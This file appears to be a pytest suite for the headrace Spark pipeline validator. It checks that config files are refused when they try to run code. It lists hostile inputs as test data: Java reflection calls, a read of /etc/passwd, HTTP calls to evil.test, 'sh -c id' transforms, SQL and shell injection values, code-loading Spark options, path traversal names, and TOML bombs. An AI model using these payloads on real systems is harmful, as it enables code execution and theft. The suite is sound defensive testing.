"""A pipeline file is data: it names columns, rules and sizes, and can neither run code nor query anything (SPEC 53).

No Spark is started: what is refused here never reaches it.
"""

from __future__ import annotations

import itertools
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from headrace.errors import ConfigError
from headrace.spark.pipeline import pipeline_of, read_toml
from headrace.spark.pipeline.expressions import FUNCTIONS, check_expression
from headrace.spark.pipeline.spec import SPARK_OPTIONS
from tests.cli.conftest import Ran
from tests.spark.test_pipeline_spec import SMALL, _with

JAVA = "java_method('java.lang.Runtime', 'getRuntime')"

EXPRESSIONS = [
    # calls of Java, of files, of other processes, spelt in every way Spark reads
    JAVA,
    f"{JAVA} is null",
    JAVA.upper(),
    JAVA.replace("(", " \n ("),
    "reflect ('java.lang.System', 'exit', 1)",
    "try_reflect('java.lang.System', 'getenv', 'HEADRACE_URL') = ''",
    "system.builtin.reflect('a', 'b')",
    "builtin . reflect('a', 'b')",
    "`reflect`('a', 'b')",
    "identifier('reflect')('a', 'b')",
    "call_function('reflect', 'a', 'b')",
    "read_files('/etc/passwd') is null",
    "input_file_name() = ''",
    "ai_query('http://evil.test', id)",
    "http_get('http://evil.test')",
    "from_json(id, 'a int')",
    "schema_of_json(id)",
    "raise_error('x')",
    "sleep(1000)",
    "current_user() = 'root'",
    # texts that Spark reads otherwise than somebody who only counts quotes
    rf"r'\' || {JAVA} || 'a\''",
    rf"R'\' || {JAVA} || 'a\''",
    rf'r"\" || {JAVA} || "a\""',
    rf"lower(r'\') || {JAVA} || 'a\''",
    f"X'' || {JAVA}",
    f"$$'$$ || {JAVA} || $$'$$",
    f"'a' '\\' || {JAVA} || '",
    "'open",
    '"open',
    "'a\\'",
    # comments, statements, queries, lambdas
    f"1 /* */ || {JAVA}",
    "a > 0 -- reflect",
    "a > 0; drop table x",
    "(select max(a) from orders) > 1",
    "(SeLeCt 1) = 1",
    "a in (select 1)",
    "exists(select 1)",
    "(table orders) = 1",
    "(values 1) = 1",
    "(with x as (select 1) select 1) = 1",
    "transform(list, x -> x)",
    "(map id using 'sh -c id')",
    "(reduce id using 'sh')",
    # letters that look like others
    "ｒｅｆｌｅｃｔ('a', 'b')",
    "r\u0435flect('a', 'b')",
    "refl\u200bect('a', 'b')",
    "a\u00a0> 0",
    "K\u212all('a')",
    "a \u202e> 0",
    "a > 0\x00",
    "a > 0\x1b[2J",
    "x" * 2_001,
    "",
    "   ",
    5,
    None,
    ["a > 0"],
]


@pytest.mark.parametrize("text", EXPRESSIONS, ids=lambda text: ascii(text)[:50])
def test_an_expression_that_could_do_anything_is_refused(text: Any) -> None:
    """SPEC 53: in one bounded line that a terminal only shows."""
    with pytest.raises(ConfigError) as caught:
        check_expression(text, name="rule")
    assert str(caught.value).isprintable()
    assert len(str(caught.value)) < 2_500  # it may list what there is


def test_no_function_on_the_list_reaches_out_of_the_row() -> None:
    """Whoever adds to the list has to think of this one."""
    suspects = "reflect java_method try_reflect input_file_name read_files from_json from_csv from_xml assert_true"
    suspects += " raise_error sleep current_user session_user user version http_get ai_query call_function transform"
    suspects += (
        " current_database current_catalog identifier explode inline stack range uuid rand sequence repeat space"
    )
    assert not FUNCTIONS & set(suspects.split())


@pytest.mark.parametrize(
    "text",
    [
        "amount > 0 and currency in ('EUR', 'it''s', 'a\\'b')",
        r"id rlike '^[a-z]+\\d{2,3}$'",
        'concat(a, "x", \'y\') <> ""',
        "cast(at as date) >= date '2026-01-01'",
        "a % 2 = 0 or (b & 3) = 1 or list[0] = 1 or a::int = 1",
        "case when a > 0 then 'x' else 'y' end = 'x'",
    ],
)
def test_ordinary_expressions_are_not_in_the_way(text: str) -> None:
    assert check_expression(text, name="rule") == text


@pytest.mark.parametrize(
    "word",
    [
        "spark.driver.extraJavaOptions",
        "spark.executor.extraJavaOptions",
        "spark.driver.defaultJavaOptions",
        "spark.driver.extraClassPath",
        "spark.driver.extraLibraryPath",
        "spark.jars",
        "spark.jars.packages",
        "spark.jars.repositories",
        "spark.files",
        "spark.archives",
        "spark.submit.pyFiles",
        "spark.submit.deployMode",
        "spark.pyspark.python",
        "spark.pyspark.driver.python",
        "spark.executorEnv.LD_PRELOAD",
        "spark.plugins",
        "spark.extraListeners",
        "spark.sql.extensions",
        "spark.sql.queryExecutionListeners",
        "spark.sql.streaming.streamingQueryListeners",
        "spark.sql.catalog.x",
        "spark.sql.warehouse.dir",
        "spark.hadoop.fs.s3a.access.key",
        "spark.master",
        "spark.remote",
        "spark.eventLog.dir",
        "spark.redaction.regex",
        "spark.sql.redaction.options.regex",
        "spark.sql.parser.escapedStringLiterals",
        "spark.sql.ansi.doubleQuotedIdentifiers",
        "spark.redis.auth",
        "SPARK.JARS",
        "spark.jars ",
        "",
        "\x1b[2J",
    ],
)
def test_an_option_of_spark_that_loads_or_runs_code_is_refused(word: str) -> None:
    with pytest.raises(ConfigError, match=r"may not set") as caught:
        pipeline_of(_with("spark", {word: "x"}))
    assert str(caught.value).isprintable()


def test_the_options_that_may_be_set_are_sizes_counts_and_places() -> None:
    bad = (
        "java",
        "class",
        "jar",
        "file.",
        "python.exec",
        "plugin",
        "listener",
        "extension",
        "redaction",
        "hadoop",
        "env",
    )
    assert not [word for word in SPARK_OPTIONS if any(part in word.lower() for part in bad)]


@pytest.mark.parametrize(
    "value", ["1g -XX:OnOutOfMemoryError=sh", "1g\n--class", "$(id)", "`id`", "a;b", "--conf", "", "x" * 101, "1g\x00"]
)
def test_a_value_of_an_option_is_one_word(value: str) -> None:
    """It becomes a part of a JVM's command line."""
    with pytest.raises(ConfigError, match="one word"):
        pipeline_of(_with("spark", {"spark.driver.memory": value}))


NAMED = ["name", "validate/0/name", "route/0/name", "aggregate/0/name"]
NO_WORDS = ["../../etc", "a/b", "/tmp/x", "..", ".", "a\x00b", "a b", "ａ", "x" * 65, 5, None, []]


@pytest.mark.parametrize(
    ("path", "name"),
    [*itertools.product([*NAMED, "table"], NO_WORDS), *((path, "") for path in NAMED)],  # a table without is allowed
)
def test_a_name_that_becomes_a_path_or_a_query_is_a_plain_word(path: str, name: Any) -> None:
    """SPEC 53: tables are folders, and stay inside the pipeline's own."""
    value = {"name": name} if path == "table" else name
    with pytest.raises(ConfigError) as caught:
        pipeline_of(_with(path, value))
    assert str(caught.value).isprintable()


@pytest.mark.parametrize(
    ("path", "value"),
    [
        ("folder", "data\x00/x"),
        ("folder", "data\n"),
        ("folder", 5),
        ("decode/columns", {"a b": "string"}),
        ("decode/columns", {"a`": "string"}),
        ("decode/columns", {"a": "struct<a:int>, evil int"}),
        ("decode/columns", {"a": "decimal(99999,1)"}),
        ("decode/columns", {f"c{n}": "string" for n in range(501)}),
        ("decode/columns", 7),
        ("decode/field", {"x": 1}),
        ("route/0/stream", "a\x1b[2J"),
        ("route/0/stream", "{x}"),
        ("route/0/stream", 5),
        ("route/0/maxlen", -1),
        ("route/0/maxlen", 10**30),
        ("route/0/maxlen", "1; FLUSHALL"),
        ("quarantine", {"stream": "x:hr:y"}),
        ("deduplicate/window", "9999999d"),
        ("deduplicate/window", float("nan")),
        ("aggregate/0/window", 10**30),
        ("aggregate/0/percentiles", [float("nan")]),
        ("aggregate/0/time", "at); drop"),
        ("enrich/x y", {"expression": "1"}),
        ("enrich/tier", {"tier_of": "amount", "edges": [float("nan"), 1]}),
        ("source", {"streams": [1]}),
        ("source", {"maxEntriesPerTrigger": 10**5_000}),
        ("spark", {"spark.sql.shuffle.partitions": 10**5_000}),
        ("__class__", {}),
        ("a" * 10_000, 1),
    ],
    ids=lambda value: ascii(value)[:30] if isinstance(value, str) else "",
)
def test_absurd_values_are_refused_in_one_line(path: str, value: Any) -> None:
    with pytest.raises(ConfigError) as caught:
        pipeline_of(_with(path, value))
    assert str(caught.value).isprintable()
    assert len(str(caught.value)) < 1_000


BOMBS = {
    "nested lists": "a = " + "[\n" * 60_000,
    "nested tables": "a = " + "{a=" * 1_000,
    "a number of many digits": "a = " + "9" * 3_900,
    "a number of many lines": "\n".join(f"a{n} = 0x{'f' * 3_900}" for n in range(60)),
    "one key of many parts": ".".join("a" * 1_990) + " = 1",
    "many keys of many parts": "\n".join(f"k{n}." + ".".join("a" * 1_000) + " = 1" for n in range(40)),
    "a source of many parts": "[source]\n" + ".".join("a" * 1_200) + " = 1\n",
    "a long line": "a = '" + "x" * 5_000 + "'",
    "a large file": "# x\n" * 70_000,
    "not UTF-8": "\udcff",
    "not TOML": "<html>",
    "NUL": "a = '\x00'",
    "a date that is none": "a = 2026-13-45",
    "escape sequences": "a = '\x1b[2J'",
}


@pytest.mark.parametrize("text", BOMBS.values(), ids=BOMBS)
def test_a_file_that_is_a_bomb_is_refused_within_seconds(tmp_path: Path, text: str) -> None:
    """SPEC 60: by one line that names the file; neither memory nor time goes into it."""
    whole = 'name = "orders"\nfolder = "data"\ndecode = {}\n' + ("" if text.startswith("[source]") else "source = {}\n")
    file = tmp_path / "bomb.toml"
    file.write_bytes((whole + text).encode("utf-8", "surrogateescape"))
    begun = time.monotonic()
    with pytest.raises(ConfigError, match=r"bomb\.toml") as caught:
        read_toml(file)
    assert time.monotonic() - begun < 10
    assert len(str(caught.value)) < 1_000


@pytest.mark.parametrize("text", ["a = " + "[" * 50_000, "url = " + "9" * 9_000, "url = '\x1b[2J'", "\x00"])
def test_a_hostile_headrace_toml_is_refused_in_one_line(nowhere: Path, run_here: Callable[..., Ran], text: str) -> None:
    """SPEC 60: commands look for it upwards from where they are started."""
    (nowhere / "headrace.toml").write_text(text)
    run_here("groups", "orders").refused(2, "headrace.toml")


def test_the_small_pipeline_these_are_made_from_is_good() -> None:
    """Otherwise every refusal above could have another reason."""
    assert pipeline_of(SMALL).name == "orders"
